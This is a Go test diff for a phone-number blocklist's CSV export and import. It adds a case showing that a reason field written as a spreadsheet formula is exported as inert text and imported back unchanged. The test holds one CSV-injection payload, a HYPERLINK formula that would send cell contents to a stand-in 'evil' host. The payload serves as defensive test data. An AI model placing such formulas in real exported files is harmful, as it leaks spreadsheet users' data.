@@ -86,6 +86,12 @@ func TestCSVRoundTrip(t *testing.T) {
 	if _, err := a.Block(ctx, "+1 202 555 0143", 2*time.Hour, "", "budi"); err != nil {
 		t.Fatal(err)
 	}
+	// A reason typed as a formula is exported as text, and comes back as
+	// typed.
+	const formula = `=HYPERLINK("http://evil/?"&A1,"x")`
+	if _, err := a.Block(ctx, "+6281300000002", time.Hour, formula, "budi"); err != nil {
+		t.Fatal(err)
+	}
 	// A number with strikes only is not a block and is not exported.
 	if _, _, err := a.Store().Update(ctx, "+6281300000001", func(r Record) (Record, Decision, error) {
 		r, d := p.ApplyOutcome(r, Event{ID: "e1", CallID: "c1", At: time.Now()}, events.OutcomeNoInput, 20*time.Second, events.HangupBySystem)
@@ -102,8 +108,12 @@ func TestCSVRoundTrip(t *testing.T) {
 	if err := WriteCSV(&exported, listA, p, now); err != nil {
 		t.Fatal(err)
 	}
-	if lines := strings.Split(strings.TrimSpace(exported.String()), "\n"); len(lines) != 3 || lines[0] != "number,until,reason" || !strings.HasPrefix(lines[1], "+6281234567890,") {
+	lines := strings.Split(strings.TrimSpace(exported.String()), "\n")
+	if len(lines) != 4 || lines[0] != "number,until,reason" || !strings.HasPrefix(lines[1], "+6281234567890,") {
 		t.Fatalf("export:\n%s", exported.String())
+	}
+	if !strings.HasPrefix(lines[3], "+6281300000002,") || !strings.Contains(lines[3], `,"'=HYPERLINK(`) {
+		t.Fatalf("the formula reason is not exported as text: %q", lines[3])
 	}
 
 	_, jsB := connect(t, startNATS(t))
@@ -112,7 +122,7 @@ func TestCSVRoundTrip(t *testing.T) {
 	if err != nil {
 		t.Fatal(err)
 	}
-	if n, err := b.Import(ctx, rows, "import"); err != nil || n != 2 {
+	if n, err := b.Import(ctx, rows, "import"); err != nil || n != 3 {
 		t.Fatalf("import %d %v", n, err)
 	}
 	listB, err := b.Store().List(ctx)
@@ -126,6 +136,9 @@ func TestCSVRoundTrip(t *testing.T) {
 	if again.String() != exported.String() {
 		t.Fatalf("export after import differs:\n%s\nwant:\n%s", again.String(), exported.String())
 	}
+	if r, err := b.Store().Get(ctx, "+6281300000002"); err != nil || r.Reason != formula {
+		t.Fatalf("imported reason %q (%v), want %q", r.Reason, err, formula)
+	}
 
 	t.Run("one bad row imports nothing", func(t *testing.T) {
 		_, jsC := connect(t, startNATS(t))
@@ -133,7 +146,7 @@ func TestCSVRoundTrip(t *testing.T) {
 		file := exported.String() + "0812-abc,1d,typo\n"
 		_, err := ParseImport(strings.NewReader(file), p, now)
 		var ie *ImportError
-		if !errors.As(err, &ie) || len(ie.Rows) != 1 || ie.Rows[0].Line != 4 || !strings.Contains(err.Error(), `line 4: invalid phone number "0812-abc"`) {
+		if !errors.As(err, &ie) || len(ie.Rows) != 1 || ie.Rows[0].Line != 5 || !strings.Contains(err.Error(), `line 5: invalid phone number "0812-abc"`) {
 			t.Fatalf("err %v", err)
 		}
 		if list, err := c.Store().List(ctx); err != nil || len(list) != 0 {
